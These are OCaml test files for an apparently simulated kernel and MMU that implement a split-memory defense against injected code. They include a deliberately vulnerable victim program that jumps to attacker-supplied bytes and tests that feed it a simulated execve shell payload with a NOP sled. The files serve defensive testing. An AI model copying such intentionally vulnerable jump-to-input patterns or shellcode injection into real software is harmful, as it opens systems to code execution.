      let os1 = Workload.Harness.build spec in
      ignore (Kernel.Os.run ~fuel:5_000 os1 : Kernel.Os.stop_reason);
      let snap = Snap.Snapshot.checkpoint os1 in
      let os2 = Workload.Harness.build spec in
      ignore (Kernel.Os.run ~fuel:3_000 os2 : Kernel.Os.stop_reason);
      Snap.Snapshot.restore os2 snap;
      ignore (run_to_end os2 : Kernel.Os.stop_reason);
      Alcotest.(check bool)
        "restored run replays the reference bit-exactly" true
        (final_state os2 = final_state reference))

let suite =
  [
    QCheck_alcotest.to_alcotest prop_bbcache_invisible;
    Alcotest.test_case "golden scenarios identical on/off" `Quick test_goldens_on_off;
    Alcotest.test_case "cache engages under split defense" `Quick test_cache_engaged;
    Alcotest.test_case "matrix identical on/off" `Slow test_matrix_on_off;
    Alcotest.test_case "inject seed-7 campaign identical on/off" `Slow test_inject_on_off;
    Alcotest.test_case "page-straddling insn: negative-block fallback" `Quick test_page_straddle;
    Alcotest.test_case "self-modifying store invalidates" `Quick test_smc_invalidation;
    Alcotest.test_case "note_hits equals repeated finds" `Quick test_note_hits_parity;
    Alcotest.test_case "snapshot restore drops the cache" `Quick test_restore_drops_cache;
  ]
