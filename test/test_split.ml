(* White-box tests of the split-memory core: splitting, Algorithm 1 (both
   branches), Algorithm 2, response modes, policies, and interaction with
   fork/COW and teardown. *)

open Isa.Asm

(* Victim that jumps to attacker-controlled bytes (attack distillation). *)
let jumper_image () =
  Kernel.Image.build ~name:"jumper"
    ~data:(fun ~lbl:_ -> [ L "buf"; Space 64 ])
    ~code:(fun ~lbl ->
      (L "main" :: Guest.sys_read_imm ~buf:(lbl "buf") ~len:64)
      @ [ I (Mov_ri (ESI, lbl "buf")); I (Jmp_r ESI) ])
    ~entry:"main" ()

(* Victim that receives bytes then parks on a second read, so its address
   space can be inspected while alive. *)
let parker_image () =
  Kernel.Image.build ~name:"parker"
    ~data:(fun ~lbl:_ -> [ L "buf"; Space 64; L "buf2"; Space 8 ])
    ~code:(fun ~lbl ->
      (L "main" :: Guest.sys_read_imm ~buf:(lbl "buf") ~len:64)
      @ Guest.sys_read_imm ~buf:(lbl "buf2") ~len:8
      @ Guest.sys_exit 0)
    ~entry:"main" ()

let spawn_under ?(image = jumper_image ()) response =
  let protection = Split_memory.protection ~response () in
  let k = Kernel.Os.create ~protection () in
  let p = Kernel.Os.spawn k image in
  (k, p)

let buf_vpn image = Kernel.Image.label image "buf" / 4096
let buf_addr image = Kernel.Image.label image "buf"

let heap_region : Kernel.Aspace.region =
  {
    lo = 0x300;
    hi = 0x301;
    kind = Kernel.Pte.Heap;
    writable = true;
    execable = false;
    source = Kernel.Aspace.Zero;
    share = None;
  }

(* --- splitting mechanics -------------------------------------------------- *)

let test_split_page_structure () =
  let k, p = spawn_under Split_memory.Response.Break in
  let pte = Kernel.Os.map_demand_page k p heap_region 0x300 in
  Alcotest.(check bool) "split" true (Kernel.Pte.is_split pte);
  Alcotest.(check bool) "restricted" false pte.user;
  let s = Option.get pte.split in
  Alcotest.(check bool) "two distinct frames" true (s.code_frame <> s.data_frame);
  Alcotest.(check string) "copies identical at birth"
    (Hw.Phys.to_string (Kernel.Os.phys k) ~frame:s.code_frame)
    (Hw.Phys.to_string (Kernel.Os.phys k) ~frame:s.data_frame)

let test_split_idempotent () =
  let k, p = spawn_under Split_memory.Response.Break in
  let pte = Kernel.Os.map_demand_page k p heap_region 0x300 in
  let frames_before = Kernel.Frame_alloc.in_use (Kernel.Os.alloc k) in
  Split_memory.Splitter.split_page (Kernel.Os.ctx k) pte;
  Alcotest.(check int) "no second allocation" frames_before
    (Kernel.Frame_alloc.in_use (Kernel.Os.alloc k))

let test_injected_bytes_reach_data_copy_only () =
  let image = parker_image () in
  let k, p = spawn_under ~image Split_memory.Response.Break in
  ignore (Kernel.Os.run k);
  ignore (Kernel.Os.feed_stdin k p "\x90\x90\x90\x90");
  ignore (Kernel.Os.run k);
  (* victim parked on its second read; inspect the buf page *)
  let off = buf_addr image mod 4096 in
  match Kernel.Aspace.pte p.aspace (buf_vpn image) with
  | Some ({ split = Some s; _ } : Kernel.Pte.t) ->
    Alcotest.(check int) "data copy has the nops" 0x90
      (Hw.Phys.read8 (Kernel.Os.phys k) ~frame:s.data_frame ~off);
    Alcotest.(check int) "code copy pristine (zeros)" 0
      (Hw.Phys.read8 (Kernel.Os.phys k) ~frame:s.code_frame ~off)
  | _ -> Alcotest.fail "expected split pte"

(* --- Algorithm 1 / Algorithm 2 ------------------------------------------- *)

let mapped_split_pte k p =
  let pte = Kernel.Os.map_demand_page k p heap_region 0x300 in
  (pte, Option.get pte.Kernel.Pte.split)

let test_algorithm1_data_branch_loads_dtlb () =
  let k, p = spawn_under Split_memory.Response.Break in
  let pte, s = mapped_split_pte k p in
  Hw.Mmu.reload_cr3 (Kernel.Os.mmu k) (Kernel.Aspace.walk p.aspace);
  let vpn = 0x300 in
  let fault : Hw.Mmu.fault =
    { addr = vpn * 4096; access = Hw.Mmu.Read; kind = Hw.Mmu.Protection; from_user = true }
  in
  (match (Kernel.Os.protection k).on_protection_fault (Kernel.Os.ctx k) p fault with
  | Kernel.Protection.Handled -> ()
  | Kernel.Protection.Not_ours -> Alcotest.fail "split fault not handled");
  (match Hw.Tlb.peek (Hw.Mmu.dtlb (Kernel.Os.mmu k)) vpn with
  | Some e -> Alcotest.(check int) "dtlb -> data copy" s.data_frame e.frame
  | None -> Alcotest.fail "dtlb not loaded");
  Alcotest.(check bool) "itlb untouched" true
    (Hw.Tlb.peek (Hw.Mmu.itlb (Kernel.Os.mmu k)) vpn = None);
  Alcotest.(check bool) "pte re-restricted" false pte.Kernel.Pte.user

let test_algorithm1_code_branch_single_steps () =
  let k, p = spawn_under Split_memory.Response.Break in
  let pte, s = mapped_split_pte k p in
  Hw.Mmu.reload_cr3 (Kernel.Os.mmu k) (Kernel.Aspace.walk p.aspace);
  let addr = 0x300 * 4096 in
  p.regs.eip <- addr;
  let fault : Hw.Mmu.fault =
    { addr; access = Hw.Mmu.Fetch; kind = Hw.Mmu.Protection; from_user = true }
  in
  (match (Kernel.Os.protection k).on_protection_fault (Kernel.Os.ctx k) p fault with
  | Kernel.Protection.Handled -> ()
  | Kernel.Protection.Not_ours -> Alcotest.fail "split fetch fault not handled");
  Alcotest.(check bool) "trap flag set" true p.regs.tf;
  Alcotest.(check bool) "pending addr recorded" true (p.pending_fault_addr = Some addr);
  Alcotest.(check bool) "pte unrestricted for the restart" true pte.Kernel.Pte.user;
  Alcotest.(check int) "pte points at code copy" s.code_frame pte.Kernel.Pte.frame;
  (* the debug interrupt (Algorithm 2) re-restricts *)
  Alcotest.(check bool) "trap consumed" true
    ((Kernel.Os.protection k).on_debug_trap (Kernel.Os.ctx k) p);
  Alcotest.(check bool) "tf cleared" false p.regs.tf;
  Alcotest.(check bool) "pte restricted again" false pte.Kernel.Pte.user;
  Alcotest.(check bool) "pending cleared" true (p.pending_fault_addr = None)

let test_stray_debug_trap_not_consumed () =
  let k, p = spawn_under Split_memory.Response.Break in
  Alcotest.(check bool) "no pending -> not ours" false
    ((Kernel.Os.protection k).on_debug_trap (Kernel.Os.ctx k) p)

(* --- response modes -------------------------------------------------------- *)

let run_attack ?payload response =
  let image = jumper_image () in
  let k, p = spawn_under ~image response in
  ignore (Kernel.Os.run k);
  let payload =
    match payload with
    | Some s -> s
    | None -> Attack.Shellcode.execve_bin_sh ~sled:4 ~base:(buf_addr image) ()
  in
  ignore (Kernel.Os.feed_stdin k p payload);
  ignore (Kernel.Os.run k);
  (k, p)

let test_break_mode () =
  let k, p = run_attack Split_memory.Response.Break in
  Alcotest.(check bool) "detected" true (p.detections > 0);
  Alcotest.(check bool) "no shell" false (Kernel.Event_log.shell_spawned (Kernel.Os.log k));
  match p.state with
  | Kernel.Proc.Zombie (Kernel.Proc.Killed Kernel.Proc.Sigill) -> ()
  | s -> Alcotest.failf "expected SIGILL, got %a" Kernel.Proc.pp_state s

let test_observe_mode_continues () =
  let k, p = run_attack (Split_memory.Response.Observe { sebek = true }) in
  Alcotest.(check bool) "detected" true (p.detections > 0);
  Alcotest.(check bool) "shell spawned anyway" true
    (Kernel.Event_log.shell_spawned (Kernel.Os.log k));
  Alcotest.(check bool) "sebek active" true p.sebek_active

let test_observe_mode_locks_page () =
  (* payload parks on a read so the locked page can be inspected live *)
  let image = jumper_image () in
  let base = buf_addr image in
  let payload =
    Attack.Shellcode.with_layout ~base (fun _ ->
        [
          I (Mov_ri (EAX, 3));
          I (Mov_ri (EBX, 0));
          I (Mov_ri (ECX, base));
          I (Mov_ri (EDX, 4));
          I (Int 0x80);
        ])
  in
  let _k, p = run_attack ~payload (Split_memory.Response.Observe { sebek = false }) in
  Alcotest.(check bool) "victim alive and parked" true (p.state <> Kernel.Proc.Runnable && not (Kernel.Proc.is_zombie p));
  match Kernel.Aspace.pte p.aspace (buf_vpn image) with
  | Some ({ split = Some s; _ } as pte : Kernel.Pte.t) ->
    Alcotest.(check bool) "locked to data" true s.locked_to_data;
    Alcotest.(check int) "mapping is the data copy" s.data_frame pte.frame;
    Alcotest.(check bool) "unrestricted" true pte.user
  | _ -> Alcotest.fail "split pte expected"

let test_observe_detects_only_once () =
  let _, p = run_attack (Split_memory.Response.Observe { sebek = false }) in
  Alcotest.(check int) "single detection per page (then locked)" 1 p.detections

let test_forensics_dump_contents () =
  let k, p = run_attack (Split_memory.Response.Forensics { payload = None }) in
  (match
     Kernel.Event_log.find_first (Kernel.Os.log k) (function
       | Kernel.Event_log.Shellcode_dump _ -> true
       | _ -> false)
   with
  | Some (Kernel.Event_log.Shellcode_dump { bytes; _ }) ->
    Alcotest.(check int) "20 bytes" 20 (String.length bytes);
    Alcotest.(check char) "starts with the nop sled" '\x90' bytes.[0]
  | _ -> Alcotest.fail "no shellcode dump");
  match p.state with
  | Kernel.Proc.Zombie (Kernel.Proc.Killed _) -> ()
  | s -> Alcotest.failf "expected kill, got %a" Kernel.Proc.pp_state s

let test_forensics_payload_runs () =
  let k, p =
    run_attack (Split_memory.Response.Forensics { payload = Some Attack.Shellcode.exit0 })
  in
  Alcotest.(check bool) "forensic injection logged" true
    (Kernel.Event_log.find_first (Kernel.Os.log k) (function
       | Kernel.Event_log.Forensic_injected _ -> true
       | _ -> false)
    <> None);
  match p.state with
  | Kernel.Proc.Zombie (Kernel.Proc.Exited 0) -> ()
  | s -> Alcotest.failf "expected exit(0) via forensic payload, got %a" Kernel.Proc.pp_state s

(* --- policies --------------------------------------------------------------- *)

let region kind ~writable ~execable : Kernel.Aspace.region =
  { lo = 0; hi = 1; kind; writable; execable; source = Kernel.Aspace.Zero; share = None }

let test_policy_mixed_only () =
  let p = Split_memory.Policy.Mixed_only in
  Alcotest.(check bool) "mixed rw+x" true
    (Split_memory.Policy.should_split p (region Kernel.Pte.Mixed ~writable:true ~execable:true) ~vpn:1);
  Alcotest.(check bool) "mmap rwx" true
    (Split_memory.Policy.should_split p (region Kernel.Pte.Mmap ~writable:true ~execable:true) ~vpn:1);
  Alcotest.(check bool) "plain data" false
    (Split_memory.Policy.should_split p (region Kernel.Pte.Data ~writable:true ~execable:false) ~vpn:1);
  Alcotest.(check bool) "code" false
    (Split_memory.Policy.should_split p (region Kernel.Pte.Code ~writable:false ~execable:true) ~vpn:1)

let test_policy_fraction () =
  let count pct =
    let p = Split_memory.Policy.Fraction pct in
    let r = region Kernel.Pte.Heap ~writable:true ~execable:false in
    List.length
      (List.filter
         (fun vpn -> Split_memory.Policy.should_split p r ~vpn)
         (List.init 1000 (fun i -> i)))
  in
  Alcotest.(check int) "0%" 0 (count 0);
  Alcotest.(check int) "100%" 1000 (count 100);
  let c50 = count 50 in
  Alcotest.(check bool) "50% roughly half" true (c50 > 400 && c50 < 600);
  Alcotest.(check int) "deterministic" c50 (count 50)

(* --- teardown / fork interactions ------------------------------------------ *)

let test_split_pages_freed_on_exit () =
  let k, _ = run_attack Split_memory.Response.Break in
  Alcotest.(check int) "all frames freed" 0 (Kernel.Frame_alloc.in_use (Kernel.Os.alloc k))

(* Guest forks after touching a data page; both processes park on reads so
   the shared split frames can be inspected. *)
let forker_image () =
  Kernel.Image.build ~name:"forker"
    ~data:(fun ~lbl:_ -> [ L "cell"; Word32 0; L "buf"; Space 8 ])
    ~code:(fun ~lbl ->
      [
        L "main";
        I (Mov_ri (EBX, lbl "cell"));
        I (Mov_ri (EAX, 1));
        I (Store (EBX, 0, EAX));
        I (Mov_ri (EAX, 2));
        I (Int 0x80);
      ]
      @ Guest.sys_read_imm ~buf:(lbl "buf") ~len:4
      @ Guest.sys_exit 0)
    ~entry:"main" ()

let test_fork_shares_split_frames () =
  let image = forker_image () in
  let k, parent = spawn_under ~image Split_memory.Response.Break in
  Alcotest.(check bool) "both parked" true (Kernel.Os.run k = Kernel.Os.All_blocked);
  let child =
    match Kernel.Os.children_of k parent with [ c ] -> c | _ -> Alcotest.fail "one child"
  in
  let vpn = Kernel.Image.label image "cell" / 4096 in
  let ppte = Option.get (Kernel.Aspace.pte parent.aspace vpn) in
  let cpte = Option.get (Kernel.Aspace.pte child.aspace vpn) in
  let ps = Option.get ppte.Kernel.Pte.split in
  let cs = Option.get cpte.Kernel.Pte.split in
  Alcotest.(check int) "code copy shared" ps.code_frame cs.code_frame;
  Alcotest.(check int) "data copy shared (COW)" ps.data_frame cs.data_frame;
  Alcotest.(check bool) "both marked cow" true (ppte.cow && cpte.cow);
  let alloc = Kernel.Os.alloc k in
  Alcotest.(check int) "code frame rc" 2 (Kernel.Frame_alloc.refcount alloc ps.code_frame);
  Alcotest.(check int) "data frame rc" 2 (Kernel.Frame_alloc.refcount alloc ps.data_frame)

let suite =
  [
    Alcotest.test_case "split page structure" `Quick test_split_page_structure;
    Alcotest.test_case "split is idempotent" `Quick test_split_idempotent;
    Alcotest.test_case "injected bytes only on data copy" `Quick
      test_injected_bytes_reach_data_copy_only;
    Alcotest.test_case "Algorithm 1: data branch" `Quick test_algorithm1_data_branch_loads_dtlb;
    Alcotest.test_case "Algorithm 1+2: code branch" `Quick test_algorithm1_code_branch_single_steps;
    Alcotest.test_case "stray debug trap ignored" `Quick test_stray_debug_trap_not_consumed;
    Alcotest.test_case "break mode kills" `Quick test_break_mode;
    Alcotest.test_case "observe mode: attack proceeds" `Quick test_observe_mode_continues;
    Alcotest.test_case "observe mode: page locked to data" `Quick test_observe_mode_locks_page;
    Alcotest.test_case "observe logs only first execution" `Quick test_observe_detects_only_once;
    Alcotest.test_case "forensics dumps shellcode" `Quick test_forensics_dump_contents;
    Alcotest.test_case "forensic payload substitution" `Quick test_forensics_payload_runs;
    Alcotest.test_case "policy: mixed-only" `Quick test_policy_mixed_only;
    Alcotest.test_case "policy: fraction deterministic" `Quick test_policy_fraction;
    Alcotest.test_case "split frames freed at exit" `Quick test_split_pages_freed_on_exit;
    Alcotest.test_case "fork shares split frames COW" `Quick test_fork_shares_split_frames;
  ]
