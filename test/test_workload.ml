(* Workloads: every guest terminates under every defense, protection costs
   cycles, and the figure trends hold on scaled-down instances. *)

let defenses = [ Defense.unprotected; Defense.split_standalone ]

let check_terminates name run =
  List.iter
    (fun d ->
      let r = run d in
      Alcotest.(check bool)
        (Fmt.str "%s under %s has cycles" name (Defense.name d))
        true
        (r.Workload.Harness.cycles > 0))
    defenses

let test_all_guests_terminate () =
  check_terminates "apache" (fun d ->
      Workload.Figures.run_apache ~defense:d ~size:2048 ~requests:3 ());
  check_terminates "gzip" (fun d -> Workload.Figures.run_gzip ~defense:d ~size:8192 ());
  check_terminates "ctxsw" (fun d -> Workload.Figures.run_ctxsw ~defense:d ~iters:10 ());
  check_terminates "nbench" (fun d ->
      Workload.Harness.run_single ~defense:d (Workload.Guests.nbench ~iters:3 ()));
  check_terminates "syscall" (fun d ->
      Workload.Harness.run_single ~defense:d (Workload.Guests.syscall_bench ~iters:50 ()));
  check_terminates "pipe" (fun d ->
      Workload.Harness.run_single ~defense:d (Workload.Guests.pipe_throughput ~iters:20 ()));
  check_terminates "spawn" (fun d ->
      Workload.Harness.run_single ~defense:d (Workload.Guests.spawn_bench ~iters:3 ()));
  check_terminates "fscopy" (fun d ->
      Workload.Harness.run_single ~defense:d (Workload.Guests.fscopy ~passes:1 ~size:4096 ()))

let test_protection_costs_cycles () =
  let base = Workload.Figures.run_ctxsw ~defense:Defense.unprotected ~iters:20 () in
  let prot = Workload.Figures.run_ctxsw ~defense:Defense.split_standalone ~iters:20 () in
  Alcotest.(check bool) "protected is slower" true (prot.cycles > base.cycles);
  Alcotest.(check bool) "same instructions retired" true (prot.insns = base.insns);
  Alcotest.(check bool) "split faults occurred" true (prot.split_faults > 0);
  Alcotest.(check bool) "single steps occurred" true (prot.single_steps > 0)

let test_normalized_in_range () =
  let v = Workload.Figures.ctxsw_normalized ~defense:Defense.split_standalone ~iters:30 () in
  Alcotest.(check bool) "in (0, 1.02]" true (v > 0.0 && v <= 1.02)

let test_apache_size_trend () =
  (* larger served pages dilute the per-request protection overhead *)
  let n size =
    Workload.Figures.apache_normalized ~defense:Defense.split_standalone ~size ~requests:8 ()
  in
  let small = n 1024 and big = n 32768 in
  Alcotest.(check bool) (Fmt.str "1KB (%.2f) slower than 32KB (%.2f)" small big) true
    (small < big)

let test_fraction_trend () =
  (* more pages split => slower; 0% is within noise of full speed *)
  let v pct =
    Workload.Figures.ctxsw_normalized ~defense:(Defense.split_fraction pct) ~iters:60 ()
  in
  let v0 = v 0 and v50 = v 50 and v100 = v 100 in
  Alcotest.(check bool) (Fmt.str "0%% near full speed (%.2f)" v0) true (v0 > 0.97);
  Alcotest.(check bool) (Fmt.str "monotone %.2f >= %.2f >= %.2f" v0 v50 v100) true
    (v0 >= v50 -. 0.02 && v50 >= v100 -. 0.02)

let test_memory_overhead_trend () =
  let unprot, eager, demand = Workload.Figures.memory_overhead () in
  Alcotest.(check bool) (Fmt.str "eager (%d) ~ 2x unprotected (%d)" eager unprot) true
    (eager = 2 * unprot);
  Alcotest.(check bool) (Fmt.str "demand (%d) < eager (%d)" demand eager) true (demand < eager)

let test_itlb_method_ablation () =
  let single_step, ret_gadget = Workload.Figures.itlb_method_ablation ~iters:30 () in
  Alcotest.(check bool) "ret-gadget variant is slower" true (ret_gadget > single_step)

let test_geomean () =
  Alcotest.(check (float 1e-9)) "geomean" 2.0 (Workload.Harness.geomean [ 1.0; 4.0 ]);
  Alcotest.check_raises "empty" (Invalid_argument "Harness.geomean: empty") (fun () ->
      ignore (Workload.Harness.geomean []))

let test_fuel_exhaustion_detected () =
  match
    Workload.Harness.run_single ~fuel:10 ~defense:Defense.unprotected
      (Workload.Guests.nbench ~iters:1000 ())
  with
  | exception Workload.Harness.Did_not_finish _ -> ()
  | _ -> Alcotest.fail "expected Did_not_finish"

let suite =
  [
    Alcotest.test_case "all guests terminate" `Quick test_all_guests_terminate;
    Alcotest.test_case "protection costs cycles, not insns" `Quick test_protection_costs_cycles;
    Alcotest.test_case "normalized ratio in range" `Quick test_normalized_in_range;
    Alcotest.test_case "apache: bigger pages, lower overhead" `Quick test_apache_size_trend;
    Alcotest.test_case "fraction split monotone" `Quick test_fraction_trend;
    Alcotest.test_case "memory overhead: eager doubles, demand doesn't" `Quick
      test_memory_overhead_trend;
    Alcotest.test_case "itlb method ablation ordering" `Quick test_itlb_method_ablation;
    Alcotest.test_case "geometric mean" `Quick test_geomean;
    Alcotest.test_case "fuel exhaustion raises" `Quick test_fuel_exhaustion_detected;
  ]
