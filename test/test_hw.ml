(* Hardware layer: physical memory, TLBs, MMU translation and permission
   semantics, CPU execution — including the TLB-desynchronization property
   the whole paper rests on. *)

let make_mmu ?(frames = 64) ?(itlb = 4) ?(dtlb = 4) () =
  let phys = Hw.Phys.create ~frames () in
  let cost = Hw.Cost.create () in
  let mmu = Hw.Mmu.create ~itlb_capacity:itlb ~dtlb_capacity:dtlb ~phys ~cost () in
  (phys, mmu)

(* --- Phys ---------------------------------------------------------------- *)

let test_phys_rw () =
  let phys = Hw.Phys.create ~frames:4 () in
  Hw.Phys.write32 phys ~frame:1 ~off:100 0xCAFEBABE;
  Alcotest.(check int) "read32" 0xCAFEBABE (Hw.Phys.read32 phys ~frame:1 ~off:100);
  Alcotest.(check int) "byte 0" 0xBE (Hw.Phys.read8 phys ~frame:1 ~off:100);
  Alcotest.(check int) "byte 3" 0xCA (Hw.Phys.read8 phys ~frame:1 ~off:103);
  Hw.Phys.copy_frame phys ~src:1 ~dst:2;
  Alcotest.(check int) "copied" 0xCAFEBABE (Hw.Phys.read32 phys ~frame:2 ~off:100);
  Hw.Phys.fill phys ~frame:2 0xFF;
  Alcotest.(check int) "filled" 0xFF (Hw.Phys.read8 phys ~frame:2 ~off:0)

let test_phys_bounds () =
  let phys = Hw.Phys.create ~frames:2 () in
  Alcotest.check_raises "bad frame" (Invalid_argument "Phys: frame 2 out of range")
    (fun () -> ignore (Hw.Phys.read8 phys ~frame:2 ~off:0));
  Alcotest.check_raises "off overflow" (Invalid_argument "Phys: offset 4093+4 out of page")
    (fun () -> ignore (Hw.Phys.read32 phys ~frame:0 ~off:4093))

(* --- TLB ----------------------------------------------------------------- *)

let entry vpn frame : Hw.Tlb.entry = { vpn; frame; user = true; writable = true; nx = false }

let test_tlb_basics () =
  let tlb = Hw.Tlb.create ~name:"t" ~capacity:2 () in
  Hw.Tlb.insert tlb (entry 1 10);
  Hw.Tlb.insert tlb (entry 2 20);
  Alcotest.(check bool) "hit 1" true (Hw.Tlb.lookup tlb 1 <> None);
  Alcotest.(check bool) "hit 2" true (Hw.Tlb.lookup tlb 2 <> None);
  (* capacity 2: inserting a third evicts the FIFO victim (vpn 1) *)
  Hw.Tlb.insert tlb (entry 3 30);
  Alcotest.(check int) "size" 2 (Hw.Tlb.size tlb);
  Alcotest.(check bool) "vpn1 evicted" true (Hw.Tlb.peek tlb 1 = None);
  Alcotest.(check bool) "vpn3 present" true (Hw.Tlb.peek tlb 3 <> None)

let test_tlb_replace_same_vpn () =
  let tlb = Hw.Tlb.create ~name:"t" ~capacity:2 () in
  Hw.Tlb.insert tlb (entry 1 10);
  Hw.Tlb.insert tlb (entry 1 99);
  Alcotest.(check int) "still one entry" 1 (Hw.Tlb.size tlb);
  match Hw.Tlb.peek tlb 1 with
  | Some e -> Alcotest.(check int) "updated frame" 99 e.frame
  | None -> Alcotest.fail "entry missing"

let test_tlb_invalidate_flush () =
  let tlb = Hw.Tlb.create ~name:"t" ~capacity:8 () in
  Hw.Tlb.insert tlb (entry 1 10);
  Hw.Tlb.insert tlb (entry 2 20);
  Hw.Tlb.invalidate tlb 1;
  Alcotest.(check bool) "invalidated" true (Hw.Tlb.peek tlb 1 = None);
  Hw.Tlb.flush tlb;
  Alcotest.(check int) "flushed" 0 (Hw.Tlb.size tlb);
  Alcotest.(check int) "flush count" 1 (Hw.Tlb.stats tlb).flushes

(* --- MMU ----------------------------------------------------------------- *)

let simple_walk table vpn = Hashtbl.find_opt table vpn

let test_mmu_translate_and_cache () =
  let _, mmu = make_mmu () in
  let table : (int, Hw.Mmu.hw_pte) Hashtbl.t = Hashtbl.create 4 in
  Hashtbl.replace table 5 { Hw.Mmu.frame = 7; present = true; writable = true; user = true; nx = false };
  Hw.Mmu.reload_cr3 mmu (simple_walk table);
  let frame, off = Hw.Mmu.translate mmu ~from_user:true Hw.Mmu.Read (5 * 4096 + 42) in
  Alcotest.(check (pair int int)) "translation" (7, 42) (frame, off);
  (* now served from the DTLB even if the pagetable changes *)
  Hashtbl.remove table 5;
  let frame, _ = Hw.Mmu.translate mmu ~from_user:true Hw.Mmu.Read (5 * 4096) in
  Alcotest.(check int) "cached" 7 frame;
  (* but a fetch misses: the ITLB was never filled *)
  match Hw.Mmu.translate mmu ~from_user:true Hw.Mmu.Fetch (5 * 4096) with
  | exception Hw.Mmu.Page_fault { kind = Hw.Mmu.Not_present; access = Hw.Mmu.Fetch; _ } -> ()
  | _ -> Alcotest.fail "expected fetch fault"

let test_mmu_supervisor_fault () =
  let _, mmu = make_mmu () in
  let table = Hashtbl.create 4 in
  Hashtbl.replace table 1 { Hw.Mmu.frame = 2; present = true; writable = true; user = false; nx = false };
  Hw.Mmu.reload_cr3 mmu (simple_walk table);
  (match Hw.Mmu.translate mmu ~from_user:true Hw.Mmu.Read 4096 with
  | exception Hw.Mmu.Page_fault { kind = Hw.Mmu.Protection; _ } -> ()
  | _ -> Alcotest.fail "user access to supervisor page must fault");
  (* a fault on miss must NOT fill the TLB *)
  Alcotest.(check bool) "dtlb unfilled" true (Hw.Tlb.peek (Hw.Mmu.dtlb mmu) 1 = None);
  (* supervisor access works *)
  let frame, _ = Hw.Mmu.translate mmu ~from_user:false Hw.Mmu.Read 4096 in
  Alcotest.(check int) "supervisor ok" 2 frame

let test_mmu_nx () =
  let _, mmu = make_mmu () in
  let table = Hashtbl.create 4 in
  Hashtbl.replace table 1 { Hw.Mmu.frame = 2; present = true; writable = true; user = true; nx = true };
  Hw.Mmu.reload_cr3 mmu (simple_walk table);
  (* nx not enforced on legacy hardware *)
  let frame, _ = Hw.Mmu.translate mmu ~from_user:true Hw.Mmu.Fetch 4096 in
  Alcotest.(check int) "legacy fetch ok" 2 frame;
  Hw.Mmu.flush_tlbs mmu;
  Hw.Mmu.set_nx mmu true;
  match Hw.Mmu.translate mmu ~from_user:true Hw.Mmu.Fetch 4096 with
  | exception Hw.Mmu.Page_fault { kind = Hw.Mmu.Protection; access = Hw.Mmu.Fetch; _ } -> ()
  | _ -> Alcotest.fail "nx fetch must fault"

(* The heart of the paper: with a supervisor PTE toggled around TLB loads,
   the ITLB and DTLB hold different frames for the same virtual page, and
   both keep servicing their kind of access while the PTE stays locked. *)
let test_tlb_desync () =
  let phys, mmu = make_mmu () in
  let code_frame = 3 and data_frame = 4 in
  Hw.Phys.blit_from_string phys ~frame:code_frame ~off:0 "CODE";
  Hw.Phys.blit_from_string phys ~frame:data_frame ~off:0 "DATA";
  let pte = ref { Hw.Mmu.frame = code_frame; present = true; writable = true; user = false; nx = false } in
  let table vpn = if vpn = 9 then Some !pte else None in
  Hw.Mmu.reload_cr3 mmu table;
  let addr = 9 * 4096 in
  (* kernel: point at the code copy, unrestrict, let a fetch fill the ITLB,
     restrict again *)
  pte := { !pte with frame = code_frame; user = true };
  ignore (Hw.Mmu.fetch8 mmu ~from_user:true addr);
  pte := { !pte with user = false };
  (* kernel: point at the data copy, unrestrict, touch, restrict *)
  pte := { !pte with frame = data_frame; user = true };
  Hw.Mmu.touch_read mmu addr;
  pte := { !pte with user = false };
  (* desynchronized: same virtual address, two physical locations *)
  Alcotest.(check int) "fetch reads CODE" (Char.code 'C') (Hw.Mmu.fetch8 mmu ~from_user:true addr);
  Alcotest.(check int) "read reads DATA" (Char.code 'D') (Hw.Mmu.read8 mmu ~from_user:true addr);
  Hw.Mmu.write8 mmu ~from_user:true (addr + 1) (Char.code 'X');
  Alcotest.(check int) "write hits data copy" (Char.code 'X')
    (Hw.Phys.read8 phys ~frame:data_frame ~off:1);
  Alcotest.(check int) "code copy untouched" (Char.code 'O')
    (Hw.Phys.read8 phys ~frame:code_frame ~off:1);
  (* and with the PTE restricted, a fresh access (after invlpg) faults *)
  Hw.Mmu.invlpg mmu 9;
  match Hw.Mmu.read8 mmu ~from_user:true addr with
  | exception Hw.Mmu.Page_fault _ -> ()
  | _ -> Alcotest.fail "restricted PTE must fault after invlpg"

(* --- CPU ----------------------------------------------------------------- *)

let cpu_fixture program =
  let phys, mmu = make_mmu ~itlb:16 ~dtlb:16 () in
  let a = Isa.Asm.assemble ~origin:0 program in
  Hw.Phys.blit_from_string phys ~frame:1 ~off:0 a.code;
  let table = Hashtbl.create 8 in
  (* identity-ish: vpn 0 -> frame 1 (code+data), vpn 1 -> frame 2 (stack) *)
  Hashtbl.replace table 0 { Hw.Mmu.frame = 1; present = true; writable = true; user = true; nx = false };
  Hashtbl.replace table 1 { Hw.Mmu.frame = 2; present = true; writable = true; user = true; nx = false };
  Hw.Mmu.reload_cr3 mmu (simple_walk table);
  let regs = Hw.Cpu.create_regs () in
  Hw.Cpu.set regs Isa.Reg.ESP 8000;
  (mmu, regs)

let step_n mmu regs n =
  for _ = 1 to n do
    match (Hw.Cpu.step mmu regs).outcome with
    | Ok _ -> ()
    | Error f -> Alcotest.failf "unexpected fault: %a" Hw.Cpu.pp_fault f
  done

let test_cpu_arith_flags () =
  let open Isa.Asm in
  let mmu, regs =
    cpu_fixture
      [ I (Mov_ri (EAX, 5)); I (Mov_ri (EBX, 5)); I (Sub (EAX, EBX)); I (Cmp_ri (EBX, 10)) ]
  in
  step_n mmu regs 3;
  Alcotest.(check int) "eax" 0 (Hw.Cpu.get regs Isa.Reg.EAX);
  Alcotest.(check bool) "zf" true regs.zf;
  step_n mmu regs 1;
  Alcotest.(check bool) "sf after cmp 5<10" true regs.sf

let test_cpu_stack_call_ret () =
  let open Isa.Asm in
  let mmu, regs =
    cpu_fixture
      [
        I (Mov_ri (EAX, 7));
        I (Push EAX);
        I (Call (Lbl "fn"));
        I (Pop ECX);
        I Hlt;
        L "fn";
        I (Mov_ri (EDX, 42));
        I Ret;
      ]
  in
  step_n mmu regs 6;
  Alcotest.(check int) "returned" 42 (Hw.Cpu.get regs Isa.Reg.EDX);
  Alcotest.(check int) "popped" 7 (Hw.Cpu.get regs Isa.Reg.ECX);
  Alcotest.(check int) "esp balanced" 8000 (Hw.Cpu.get regs Isa.Reg.ESP)

let test_cpu_wraparound () =
  let open Isa.Asm in
  let mmu, regs = cpu_fixture [ I (Mov_ri (EAX, 0xFFFFFFFF)); I (Add_ri (EAX, 2)) ] in
  step_n mmu regs 2;
  Alcotest.(check int) "wraps to 1" 1 (Hw.Cpu.get regs Isa.Reg.EAX)

